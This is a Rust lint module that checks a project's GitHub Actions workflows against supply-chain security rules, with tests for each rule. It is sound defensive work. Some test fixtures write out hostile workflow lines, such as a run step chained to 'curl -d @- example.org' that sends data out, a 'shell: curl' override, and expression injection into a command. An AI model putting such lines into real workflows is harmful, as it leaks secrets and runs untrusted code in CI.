//! The rules of this project's workflows, held without an installed tool. They are read line by line:
//! a YAML library would be paid for by every contributor's build, and three files in one plain style
//! do not need it. What is not in that style is a fault, so nothing hides from the rules.
#![allow(clippy::disallowed_methods, reason = "reads and writes files and asks the clock")]

use std::fs;
use std::time::Instant;

use anyhow::{Context, Result};
use camino::{Utf8Path, Utf8PathBuf};

use crate::ci::{Outcome, Row};

/// All workflows together; longer ones have logic in them that belongs into xtask.
const MOST_LINES: usize = 150;

/// The workflows that have to be there, and the lines that others rely on: users on the schedule,
/// `check-upstream` on the title and the input.
const WANTED: [(&str, &[&str]); 3] = [
    ("ci.yml", &[]),
    (
        "buildkit-weekly-build.yml",
        &["run-name: BuildKit ${{ inputs.buildkit_ref || 'master' }}", "- cron: \"30 6 * * 0\"", "buildkit_ref:"],
    ),
    ("track-buildkit-releases.yml", &["- cron: \"0 9 * * *\"", "workflow_dispatch:"]),
];

/// Reads the workflows among the files of the checkout at `root`.
pub fn check(root: &Utf8Path, paths: &[Utf8PathBuf]) -> Result<Row> {
    let started = Instant::now();
    let read = |path: &Utf8PathBuf| {
        let text = fs::read_to_string(root.join(path)).with_context(|| format!("cannot read {path}"))?;
        anyhow::Ok((path.file_name().unwrap_or_default().to_owned(), text))
    };
    let files = paths.iter().map(read).collect::<Result<Vec<_>>>()?;
    let faults = faults_of_all(&files);
    let outcome = if faults.is_empty() {
        Outcome::Passed(format!("{} files, {} of {MOST_LINES} lines", files.len(), lines_of(&files)))
    } else {
        faults.iter().for_each(|fault| eprintln!("{fault}"));
        Outcome::Failed(format!("{} faults, the first: {}", faults.len(), faults[0]))
    };
    Ok(Row::new("workflow rules", outcome, started))
}

fn lines_of(files: &[(String, String)]) -> usize {
    files.iter().map(|(_, text)| text.lines().count()).sum()
}

fn faults_of_all(files: &[(String, String)]) -> Vec<String> {
    let mut found: Vec<String> = files.iter().flat_map(|(name, text)| faults(name, text)).collect();
    let missing = WANTED.iter().filter(|(wanted, _)| !files.iter().any(|(name, _)| name == wanted));
    found.extend(missing.map(|(wanted, _)| format!("{wanted}: there is no such workflow")));
    if lines_of(files) > MOST_LINES {
        found.push(format!("the workflows have {} lines, more than {MOST_LINES}", lines_of(files)));
    }
    found
}

/// What is wrong with the workflow `text` of the file `name`, each as `name:line: what`.
fn faults(name: &str, text: &str) -> Vec<String> {
    let lines: Vec<Line> = text.lines().zip(1..).filter_map(|(line, number)| Line::parse(line, number)).collect();
    let mut found: Vec<(usize, String)> = of_the_whole(name, &lines).into_iter().map(|what| (1, what)).collect();
    let strangers = lines.iter().any(|line| line.names("pull_request"));
    for (at, line) in lines.iter().enumerate() {
        found.extend(of_line(line, &lines[at + 1..], strangers).map(|what| (line.number, what.to_owned())));
    }
    found.extend(of_jobs(&lines));
    found.sort();
    found.into_iter().map(|(number, what)| format!("{name}:{number}: {what}")).collect()
}

fn of_the_whole(name: &str, lines: &[Line]) -> Vec<String> {
    let top = |text: &str| lines.iter().any(|line| line.indent == 0 && line.text.starts_with(text));
    let wanted = WANTED.iter().find(|(file, _)| *file == name).map_or(&[][..], |(_, wanted)| wanted);
    let missing = wanted.iter().filter(|text| !lines.iter().any(|line| line.text == **text));
    let mut found: Vec<String> = missing.map(|text| format!("needs the line `{text}`")).collect();
    if !top("permissions: {}") {
        found.push("needs `permissions: {}` at the top: each job names what it needs".to_owned());
    }
    if !top("concurrency:") {
        found.push("needs `concurrency:` at the top: two runs at once do the same thing twice".to_owned());
    }
    found
}

/// What is wrong with one line, which `next` follow; `strangers` may have written what is run.
fn of_line(line: &Line, next: &[Line], strangers: bool) -> Option<&'static str> {
    let value = line.value();
    let goes_on = next.first().is_some_and(|next| next.indent > line.key_indent());
    let mut step = next.iter().take_while(|next| next.indent >= line.key_indent());
    let rules = [
        (line.is_odd(), "write it in block style, with plain keys and one-line values"),
        (
            line.key() == "run" && (goes_on || !is_task(value)),
            "`run:` is one line `cargo xtask …` of plain words, for xtask has the logic",
        ),
        (line.key() == "shell", "a task needs no shell of its choice, which could be any program"),
        (
            line.key() == "uses" && !is_pinned(value, line.comment),
            "`uses:` is OWNER/NAME@ and a commit of 40 digits, then its version as `# v…`",
        ),
        (
            value.starts_with("actions/checkout@") && !step.any(|next| next.text == "persist-credentials: false"),
            "a checkout needs `persist-credentials: false`, or later steps can push",
        ),
        (line.names("pull_request_target"), "runs strangers' changes with this repository's token"),
        (
            strangers && line.key() == "runs-on" && value != "ubuntu-latest",
            "strangers' changes run on GitHub's machines alone",
        ),
    ];
    rules.into_iter().find_map(|(is_broken, what)| is_broken.then_some(what))
}

fn of_jobs(lines: &[Line]) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    let mut jobs =
        lines.iter().skip_while(|line| line.text != "jobs:").skip(1).take_while(|line| line.indent > 0).peekable();
    while let Some(job) = jobs.next() {
        let mut keys = Vec::new();
        while let Some(line) = jobs.next_if(|line| line.indent > job.indent) {
            keys.extend((line.indent == job.indent + 2).then_some(line.key()));
        }
        for needed in ["permissions", "timeout-minutes"] {
            if !keys.contains(&needed) {
                found.push((job.number, format!("the job {} needs `{needed}:`", job.key())));
            }
        }
    }
    found
}

/// A line that is more than a comment.
struct Line<'a> {
    number: usize,
    indent: usize,
    /// Without indentation and comment.
    text: &'a str,
    comment: &'a str,
}

impl<'a> Line<'a> {
    fn parse(line: &'a str, number: usize) -> Option<Self> {
        let indent = line.len() - line.trim_start().len();
        let body = line.trim_start();
        let (text, comment) =
            if body.starts_with('#') { ("", body) } else { body.split_once(" #").unwrap_or((body, "")) };
        (!text.trim().is_empty()).then(|| Self { number, indent, text: text.trim_end(), comment: comment.trim() })
    }

    /// The text behind the dash of a list's entry.
    fn entry(&self) -> &'a str {
        self.text.strip_prefix("- ").unwrap_or(self.text)
    }

    fn key(&self) -> &'a str {
        self.entry().split_once(':').map_or("", |(key, _)| key.trim_end())
    }

    fn value(&self) -> &'a str {
        self.entry().split_once(':').map_or("", |(_, value)| value.trim())
    }

    /// Where the key begins: what is indented further belongs to it.
    fn key_indent(&self) -> usize {
        self.indent + self.text.len() - self.entry().len()
    }

    /// Whether it is about this event, in whichever form of `on:`.
    fn names(&self, event: &str) -> bool {
        [self.key(), self.value(), self.entry()].contains(&event)
    }

    /// Whether it is not in the style that the rules can read: keys in quotes, mappings in braces, texts of
    /// several lines, aliases and tabs could all carry a `run:` past them.
    fn is_odd(&self) -> bool {
        let begins = self.entry().starts_with(['"', '\'', '{', '[', '&', '*', '?', '!', '<', '\t']);
        let holds = self.value().starts_with(['{', '[', '&', '*', '|', '>', '!']) && self.value() != "{}";
        begins || holds && self.key() != "branches"
    }
}

/// No quotes, variables, operators or expressions: what a shell could read in more than one way is for xtask.
fn is_task(command: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " ./=_-".contains(c);
    command.starts_with("cargo xtask ") && command.chars().all(is_plain)
}

fn is_pinned(action: &str, comment: &str) -> bool {
    let commit = action.split_once('@').map_or("", |(_, commit)| commit);
    let is_commit = commit.len() == 40 && commit.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'));
    let says_version = comment.strip_prefix('v').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
    is_commit && says_version
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "\
name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions: {} # none
concurrency:
  group: ci
jobs:
  ci:
    runs-on: ubuntu-latest
    timeout-minutes: 90
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: cargo xtask ci
        env:
          TOKEN: ${{ github.token }}
";

    #[test]
    fn a_workflow_that_keeps_the_rules_has_no_fault() {
        assert_eq!(faults("ci.yml", GOOD), Vec::<String>::new());
        assert_eq!(faults("ci.yml", &(GOOD.to_owned() + "env:\n  A: b\n")), Vec::<String>::new());
    }

    /// Each rule, by a change that breaks it alone, and a word of what is then said.
    #[test]
    fn each_rule_is_seen_to_be_broken() {
        let run = "run: cargo xtask ci\n";
        for (from, to, said) in [
            ("permissions: {} # none", "permissions: read-all", "ci.yml:1: needs `permissions: {}`"),
            ("concurrency:\n  group: ci\n", "", "ci.yml:1: needs `concurrency:`"),
            ("    timeout-minutes: 90\n", "", "ci.yml:10: the job ci needs `timeout-minutes:`"),
            ("    permissions:\n      contents: read\n", "", "ci.yml:10: the job ci needs `permissions:`"),
            ("          persist-credentials: false\n", "          fetch-depth: 0\n", "ci.yml:16: a checkout needs"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", "ci.yml:16: `uses:`"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e", "ci.yml:16: `uses:`"),
            (" # v7.0.1", "", "ci.yml:16: `uses:`"),
            (run, "run: cargo xtask ci --only ${{ inputs.name }}\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci && curl -d @- example.org\n", "ci.yml:19: `run:`"),
            (run, "run: cargo test\n", "ci.yml:19: `run:`"),
            (run, "run : cargo test\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n        shell: curl {0}\n", "ci.yml:20: a task needs no shell"),
            (run, "run: cargo xtask\n          ci $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n          $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: |\n          cargo xtask ci\n", "ci.yml:19: write it in block style"),
            (run, "\"run\": cargo test\n", "ci.yml:19: write it in block style"),
            (run, "{ run: cargo test }\n", "ci.yml:19: write it in block style"),
            ("  push:\n    branches: [main]\n", "  pull_request_target:\n", "ci.yml:3: runs strangers' changes"),
            (
                "on:\n  push:\n    branches: [main]\n  pull_request:\n",
                "on: pull_request_target\n",
                "ci.yml:2: runs strangers'",
            ),
            ("runs-on: ubuntu-latest", "runs-on: self-hosted", "ci.yml:11: strangers' changes"),
        ] {
            assert!(GOOD.contains(from), "{from}");
            let found = faults("ci.yml", &GOOD.replace(from, to));
            assert!(found.iter().any(|fault| fault.starts_with(said)), "{to}: {found:?}");
        }
    }

    #[test]
    fn schedule_title_and_input_are_held_to_the_seed() {
        let found = faults("buildkit-weekly-build.yml", GOOD);
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found.iter().any(|fault| fault.contains("30 6 * * 0")), "{found:?}");
        assert!(faults("track-buildkit-releases.yml", GOOD)[0].contains("0 9 * * *"));
    }

    #[test]
    fn missing_workflows_and_long_ones_are_faults() {
        let long = GOOD.to_owned() + &"\n".repeat(150);
        let found = faults_of_all(&[("ci.yml".to_owned(), long)]);
        assert_eq!(found[0], "buildkit-weekly-build.yml: there is no such workflow");
        assert_eq!(found[2], "the workflows have 171 lines, more than 150");
    }
}
